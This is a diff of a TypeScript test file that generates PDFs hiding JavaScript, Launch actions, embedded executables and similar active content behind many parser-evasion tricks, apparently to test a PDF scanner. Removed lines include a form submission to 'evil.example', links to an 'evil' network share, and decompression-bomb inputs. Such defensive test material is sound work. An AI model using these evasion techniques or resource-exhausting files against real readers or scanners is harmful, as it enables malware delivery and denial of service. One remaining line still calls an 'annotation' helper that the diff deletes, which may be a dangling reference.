@@ -8,10 +8,11 @@ const opens = '/OpenAction 8 0 R';
 const spelt = (name: string) =>
   `/${Array.from(name, (letter) => `#${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}`;
 const action = (dictionary: string, more = {}) => tabledPdf({ catalog: opens, objects: { 8: dictionary, ...more } });
-const annotation = (dictionary: string, more = {}) =>
-  tabledPdf({ page: '/Annots [7 0 R]', objects: { 7: `<< /Type /Annot /Rect [0 0 9 9] ${dictionary} >>`, ...more } });
 const packed = (dictionary: string, pack?: (plain: Buffer) => Buffer) =>
-  packedPdf({ catalog: opens, packed: { 20: { objects: { 8: `<< ${script} >>` }, dictionary, ...(pack ? { pack } : {}) } } });
+  packedPdf({
+    catalog: opens,
+    packed: { 20: { objects: { 8: `<< ${script} >>` }, dictionary, ...(pack ? { pack } : {}) } },
+  });
 const hex = (plain: Buffer) => Buffer.from(`${plain.toString('hex')}>`);
 const rowsUp = (plain: Buffer) => {
   const rows: Buffer[] = [];
@@ -28,90 +29,164 @@ const rowsUp = (plain: Buffer) => {
 export const hiddenInPdf: Hidden[] = [
   ['in the open', () => action(`<< ${script} >>`), 'fileActive'],
   ['behind 5,000 bytes of padding', () => action(`<< /Pad (${'x'.repeat(5000)}) ${script} >>`), 'fileActive'],
-  ['behind 100,000 entries', () => action(`<< ${Array.from({ length: 100_000 }, (_, index) => `/P${index} 0`).join(' ')} ${script} >>`), 'fileActive'],
+  [
+    'behind 100,000 entries',
+    () => action(`<< ${Array.from({ length: 100_000 }, (_, index) => `/P${index} 0`).join(' ')} ${script} >>`),
+    'fileActive',
+  ],
   ['between comments', () => action('<< /S % /GoTo >>\n/JavaScript%\n/JS%(\n(x) >>'), 'fileActive'],
   ['between 8 kinds of space', () => action('<</S\0\t\f\r\n/JavaScript\0/JS\r(x)>>'), 'fileActive'],
-  ['with every letter in figures', () => action(`<< ${spelt('S')} ${spelt('JavaScript')} ${spelt('JS')} (x) >>`), 'fileActive'],
+  [
+    'with every letter in figures',
+    () => action(`<< ${spelt('S')} ${spelt('JavaScript')} ${spelt('JS')} (x) >>`),
+    'fileActive',
+  ],
   ['with some letters in figures', () => action('<< /S /Java#53cript /J#53 (x) >>'), 'fileActive'],
   ['as a name that stands elsewhere', () => action('<< /S 9 0 R /JS (x) >>', { 9: '/JavaScript' }), 'fileActive'],
   ['as a name that stands elsewhere, in figures', () => action('<< /S 9 0 R >>', { 9: '/L#61unch' }), 'fileActive'],
   ['in hexadecimal', () => action('<< /S /JavaScript /JS <6170702e616c6572742831 29> >>'), 'fileActive'],
   ['as a stream', () => action('<< /S /JavaScript /JS 9 0 R >>', { 9: streamOf('app.alert(1)') }), 'fileActive'],
-  ['as a stream after a space', () => action('<< /S /JavaScript /JS 9 0 R >>', { 9: streamOf('app.alert(1)', '', ' \n') }), 'fileActive'],
+  [
+    'as a stream after a space',
+    () => action('<< /S /JavaScript /JS 9 0 R >>', { 9: streamOf('app.alert(1)', '', ' \n') }),
+    'fileActive',
+  ],
   ['after an escaped bracket', () => action(`<< /T (a\\)) /U (\\\\) ${script} >>`), 'fileActive'],
   ['after brackets in brackets', () => action(`<< /T (a (b) \\( >> endobj) ${script} >>`), 'fileActive'],
   ['as the second of two equal keys', () => action('<< /S /GoTo /S /JavaScript /JS (x) >>'), 'fileActive'],
-  ['as the next action', () => action('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>'), 'fileActive'],
-  ['as one of several next actions', () => action('<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo >> 9 0 R] >>', { 9: `<< ${script} >>` }), 'fileActive'],
+  [
+    'as the next action',
+    () => action('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>'),
+    'fileActive',
+  ],
+  [
+    'as one of several next actions',
+    () => action('<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo >> 9 0 R] >>', { 9: `<< ${script} >>` }),
+    'fileActive',
+  ],
   ['on a page', () => tabledPdf({ page: `/AA << /O << ${script} >> >>` }), 'fileActive'],
   ['when the document is closed', () => tabledPdf({ catalog: `/AA << /WC << ${script} >> >>` }), 'fileActive'],
-  ['under a name of the document', () => tabledPdf({ catalog: '/Names << /JavaScript << /Names [(a) 8 0 R] >> >>', objects: { 8: `<< ${script} >>` } }), 'fileActive'],
-  ['in a bookmark', () => tabledPdf({ catalog: '/Outlines 8 0 R', objects: { 8: '<< /First 9 0 R /Last 9 0 R >>', 9: `<< /Title (a) /Parent 8 0 R /A << ${script} >> >>` } }), 'fileActive'],
-  ['in a field', () => tabledPdf({ catalog: '/AcroForm << /Fields [8 0 R] >>', objects: { 8: `<< /FT /Tx /T (a) /AA << /K << ${script} >> >> >>` } }), 'fileActive'],
+  [
+    'under a name of the document',
+    () =>
+      tabledPdf({ catalog: '/Names << /JavaScript << /Names [(a) 8 0 R] >> >>', objects: { 8: `<< ${script} >>` } }),
+    'fileActive',
+  ],
+  [
+    'in a bookmark',
+    () =>
+      tabledPdf({
+        catalog: '/Outlines 8 0 R',
+        objects: { 8: '<< /First 9 0 R /Last 9 0 R >>', 9: `<< /Title (a) /Parent 8 0 R /A << ${script} >> >>` },
+      }),
+    'fileActive',
+  ],
+  [
+    'in a field',
+    () =>
+      tabledPdf({
+        catalog: '/AcroForm << /Fields [8 0 R] >>',
+        objects: { 8: `<< /FT /Tx /T (a) /AA << /K << ${script} >> >> >>` },
+      }),
+    'fileActive',
+  ],
   ['in a link', () => annotation(`/Subtype /Link /A << ${script} >>`), 'fileActive'],
   ['in a packed object', () => packed(''), 'fileActive'],
   ['in a packed object, not deflated', () => packed('/Filter []', (plain) => plain), 'fileActive'],
   ['in a packed object without a type', () => packed('/Type /Other'), 'fileActive'],
   ['in a packed object behind padding', () => packed(`/Pad (${'x'.repeat(9000)})`), 'fileActive'],
-  ['in a packed object, twice packed', () => packed('/Filter [/ASCIIHexDecode /FlateDecode]', (plain) => hex(deflateSync(plain))), 'fileDamaged'],
+  [
+    'in a packed object, twice packed',
+    () => packed('/Filter [/ASCIIHexDecode /FlateDecode]', (plain) => hex(deflateSync(plain))),
+    'fileDamaged',
+  ],
   ['in a packed object in hexadecimal', () => packed('/Filter /ASCIIHexDecode', hex), 'fileDamaged'],
   ['in a packed object in rows', () => packed('/DecodeParms << /Predictor 12 /Columns 4 >>', rowsUp), 'fileDamaged'],
-  ['in a packed object whose type stands elsewhere', () => packedPdf({ catalog: opens, objects: { 30: '/ObjStm' }, packed: { 20: { objects: { 8: `<< ${script} >>` }, dictionary: '/Type 30 0 R' } } }), 'fileActive'],
-  ['in a later revision', () => revised(action('<< /S /GoTo /D [3 0 R /Fit] >>'), { objects: { 8: `<< ${script} >>` } }), 'fileActive'],
-  ['in a revision that a later one hides', () => revised(action(`<< ${script} >>`), { objects: { 8: '<< /S /GoTo >>' } }), 'fileActive'],
+  [
+    'in a packed object whose type stands elsewhere',
+    () =>
+      packedPdf({
+        catalog: opens,
+        objects: { 30: '/ObjStm' },
+        packed: { 20: { objects: { 8: `<< ${script} >>` }, dictionary: '/Type 30 0 R' } },
+      }),
+    'fileActive',
+  ],
+  [
+    'in a later revision',
+    () => revised(action('<< /S /GoTo /D [3 0 R /Fit] >>'), { objects: { 8: `<< ${script} >>` } }),
+    'fileActive',
+  ],
+  [
+    'in a revision that a later one hides',
+    () => revised(action(`<< ${script} >>`), { objects: { 8: '<< /S /GoTo >>' } }),
+    'fileActive',
+  ],
   ['in an object that only the second table names', () => hybrid(), 'fileActive'],
   ['inside the bytes of a picture', () => inStream(''), 'fileDamaged'],
   ['inside the bytes of a stream of unknown length', () => inStream('/Length 9 0 R'), 'fileDamaged'],
-  ['inside a comment', () => tabledPdf({ catalog: opens, raw: `% 8 0 obj << ${script} >> endobj\n`, pointTo: { 8: '8 0 obj <<' } }), 'fileDamaged'],
-  ['inside a text', () => tabledPdf({ catalog: opens, objects: { 7: `<< /T ( 8 0 obj << /S /JavaScript /JS <78> >> endobj ) >>` }, pointTo: { 8: '8 0 obj <<' } }), 'fileDamaged'],
-  ['after a stream that ends twice', () => tabledPdf({ catalog: opens, raw: `7 0 obj\n<< /Length 9 >>\nstream\nendstream\nendstream endobj\n8 0 obj << ${script} >> endobj\n`, pointTo: { 8: '8 0 obj <<' } }), 'fileActive'],
-  ['after a stream without end', () => tabledPdf({ catalog: opens, raw: `7 0 obj\n<< /Length 3 >>\nstream\nabc\nstream\nendstream endobj\n8 0 obj << ${script} >> endobj\n`, pointTo: { 8: '8 0 obj <<' } }), 'fileActive'],
-  ['after an object without end', () => tabledPdf({ catalog: opens, raw: `7 0 obj << /A 1 >>\n8 0 obj << ${script} >> endobj\n`, pointTo: { 8: '8 0 obj <<' } }), 'fileActive'],
-  ['under a number with zeros', () => tabledPdf({ catalog: opens, raw: `0000000008 00000 obj<< ${script} >>endobj\n`, pointTo: { 8: '0000000008' } }), 'fileActive'],
-  ['in a file whose table is wrong', () => Buffer.from(action(`<< ${script} >>`).toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1'), 'fileActive'],
-  ['a program', () => action('<< /S /Launch /F (cmd.exe) >>'), 'fileActive'],
-  ['a program for Windows', () => action('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), 'fileActive'],
-  ['an action nobody knows', () => action('<< /S /Whatever >>'), 'fileActive'],
-  ['another file to open', () => action('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'), 'fileActive'],
-  ['a file within to open', () => action('<< /S /GoToE /T << /R /C /N (a) >> >>'), 'fileActive'],
-  ['a form that sends itself', () => action('<< /S /SubmitForm /F (https://evil.example) >>'), 'fileActive'],
-  ['a form that loads data', () => action('<< /S /ImportData /F (a.fdf) >>'), 'fileActive'],
-  ['a film', () => annotation('/Subtype /Movie /Movie << /F (a.avi) >>'), 'fileActive'],
-  ['a screen that plays', () => annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>'), 'fileActive'],
-  ['a sound', () => annotation('/Subtype /Sound /Sound 9 0 R', { 9: streamOf('x') }), 'fileActive'],
-  ['rich media', () => annotation('/Subtype /RichMedia /RichMediaContent << >>'), 'fileActive'],
-  ['a model in three dimensions', () => annotation('/Subtype /3D /3DD 9 0 R', { 9: streamOf('x', '/Type /3D /Subtype /U3D') }), 'fileActive'],
-  ['an attached file', () => annotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>'), 'fileActive'],
-  ['an embedded file', () => tabledPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>', objects: { 8: '<< /F (a.exe) /EF << /F 9 0 R >> >>', 9: streamOf('MZ') } }), 'fileActive'],
-  ['an associated file', () => tabledPdf({ catalog: '/AF [8 0 R]', objects: { 8: '<< /Type /Filespec /F (a.exe) /#45F << /F 9 0 R >> >>', 9: streamOf('MZ') } }), 'fileActive'],
-  ['a form in XML', () => tabledPdf({ catalog: '/AcroForm << /Fields [] /XFA 8 0 R >>', objects: { 8: streamOf('<xdp/>') } }), 'fileActive'],
-  ['a form in XML, in parts', () => tabledPdf({ catalog: '/AcroForm << /Fields [] /#58FA [(template) 8 0 R] >>', objects: { 8: streamOf('<xdp/>') } }), 'fileActive'],
-  ['content from elsewhere', () => tabledPdf({ page: '/Contents 8 0 R', objects: { 8: streamOf('', '/F (\\\\\\\\evil\\\\share\\\\x)') } }), 'fileActive'],
-  ['a page of another file', () => tabledPdf({ page: '/Resources << /XObject << /A 8 0 R >> >>', objects: { 8: streamOf('', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (a.pdf) /Page 0 >>') } }), 'fileActive'],
-  ['a program for the printer', () => tabledPdf({ page: '/Resources << /XObject << /A 8 0 R >> >>', objects: { 8: streamOf('quit', '/Type /XObject /Subtype /PS') } }), 'fileActive'],
-  ['a link that runs a script', () => annotation('/Subtype /Link /A << /S /URI /URI (java\nscript:alert\\(1\\)) >>'), 'fileActive'],
-  ['a link to a file, in hexadecimal', () => annotation('/Subtype /Link /A << /S /URI /URI <66696c653a2f2f2f63> >>'), 'fileActive'],
-  ['a link into the network, which stands elsewhere', () => annotation('/Subtype /Link /A << /S /URI /URI 9 0 R >>', { 9: '(\\\\\\\\evil\\\\share)' }), 'fileActive'],
-  ['a password in the first of two revisions', () => revised(tabledPdf({ trailer: '/Encrypt 8 0 R', objects: { 8: '<< /Filter /Standard >>' } }), { objects: { 9: 'null' } }), 'fileEncrypted'],
-  ['a password in a stream of contents', () => packedPdf({ trailer: '/Encrypt 8 0 R', objects: { 8: '<< /Filter /Standard >>' } }), 'fileEncrypted'],
-  ['201 pages by one page', () => tabledPdf({ objects: { 2: '<< /Type /Pages /Kids [3 0 R] /Count 201 >>' } }), 'fileTooManyPages'],
-  ['201 pages', () => tabledPdf({ objects: Object.fromEntries(Array.from({ length: 200 }, (_, index) => [index + 4, '<< /Type /Page >>'])) }), 'fileTooManyPages'],
-];
-
-/** Files that are much work, or much memory, for whoever reads them carelessly; a slow machine refuses more of them. */
-export const laborious: Hidden[] = [
-  ['an object stream of 63 MB of one name', () => packedPdf({ packed: { 20: { objects: { 8: `/${'#41'.repeat(21_000_000)}` } } } }), 'fileTooComplex'],
-  ['an object stream of 100 MB of nothing', () => packedPdf({ packed: { 20: { objects: { 8: 'null' }, pack: (plain) => deflateSync(Buffer.concat([plain, Buffer.alloc(100_000_000, 32)])) } } }), 'fileDamaged'],
-  ['ten object streams of 10 MB', () => packedPdf({ packed: Object.fromEntries(Array.from({ length: 10 }, (_, index) => [index + 20, { objects: { [index + 50]: 'null' }, pack: (plain: Buffer) => deflateSync(Buffer.concat([plain, Buffer.alloc(10_000_000, 32)])) }])) }), 'fileDamaged'],
-  ['an array 200,000 deep', () => action(`${'['.repeat(200_000)}${']'.repeat(200_000)}`), 'fileDamaged'],
-  ['a dictionary 100,000 deep', () => action(`${'<< /A '.repeat(100_000)}${'>>'.repeat(100_000)}`), 'fileDamaged'],
-  ['a text 1,000,000 deep', () => action(`<< /T ${'('.repeat(1_000_000)} >>`), 'fileDamaged'],
-  ['a million digits', () => tabledPdf({ raw: '1'.repeat(1_000_000) }), 'fileTooComplex'],
-  ['three million spaces between a number and its object', () => tabledPdf({ raw: `8 ${' '.repeat(1_000_000)} 0 obj null endobj\n`.repeat(3) }), 'taken'],
-  ['a table of contents of 4,000,000,000 rows', () => packedPdf({ trailer: '/Index [0 4000000000]' }), 'taken'],
-  ['250,000 objects', () => tabledPdf({ raw: Array.from({ length: 250_000 }, (_, index) => `${index + 10} 0 obj 0 endobj\n`).join('') }), 'fileDamaged'],
-  ['a million streams that never begin', () => tabledPdf({ raw: 'stream\n'.repeat(1_000_000) }), 'fileDamaged'],
-  ['19,900 streams of a wrong length', () => tabledPdf({ raw: Array.from({ length: 19_900 }, (_, index) => `${index + 10} 0 obj << /Length 1 >> stream\n${'x'.repeat(400)}\nendstream endobj\n`).join('') }), 'taken'],
+  [
+    'inside a comment',
+    () => tabledPdf({ catalog: opens, raw: `% 8 0 obj << ${script} >> endobj\n`, pointTo: { 8: '8 0 obj <<' } }),
+    'fileDamaged',
+  ],
+  [
+    'inside a text',
+    () =>
+      tabledPdf({
+        catalog: opens,
+        objects: { 7: `<< /T ( 8 0 obj << /S /JavaScript /JS <78> >> endobj ) >>` },
+        pointTo: { 8: '8 0 obj <<' },
+      }),
+    'fileDamaged',
+  ],
+  [
+    'after a stream that ends twice',
+    () =>
+      tabledPdf({
+        catalog: opens,
+        raw: `7 0 obj\n<< /Length 9 >>\nstream\nendstream\nendstream endobj\n8 0 obj << ${script} >> endobj\n`,
+        pointTo: { 8: '8 0 obj <<' },
+      }),
+    'fileActive',
+  ],
+  [
+    'after a stream without end',
+    () =>
+      tabledPdf({
+        catalog: opens,
+        raw: `7 0 obj\n<< /Length 3 >>\nstream\nabc\nstream\nendstream endobj\n8 0 obj << ${script} >> endobj\n`,
+        pointTo: { 8: '8 0 obj <<' },
+      }),
+    'fileActive',
+  ],
+  [
+    'after an object without end',
+    () =>
+      tabledPdf({
+        catalog: opens,
+        raw: `7 0 obj << /A 1 >>\n8 0 obj << ${script} >> endobj\n`,
+        pointTo: { 8: '8 0 obj <<' },
+      }),
+    'fileActive',
+  ],
+  [
+    'under a number with zeros',
+    () =>
+      tabledPdf({ catalog: opens, raw: `0000000008 00000 obj<< ${script} >>endobj\n`, pointTo: { 8: '0000000008' } }),
+    'fileActive',
+  ],
+  [
+    'in a file whose table is wrong',
+    () =>
+      Buffer.from(
+        action(`<< ${script} >>`)
+          .toString('latin1')
+          .replace(/startxref\n\d+/, 'startxref\n7'),
+        'latin1',
+      ),
+    'fileActive',
+  ],
 ];
 
 /** An old table that knows nothing of the object, and a newer one beside it that does. */
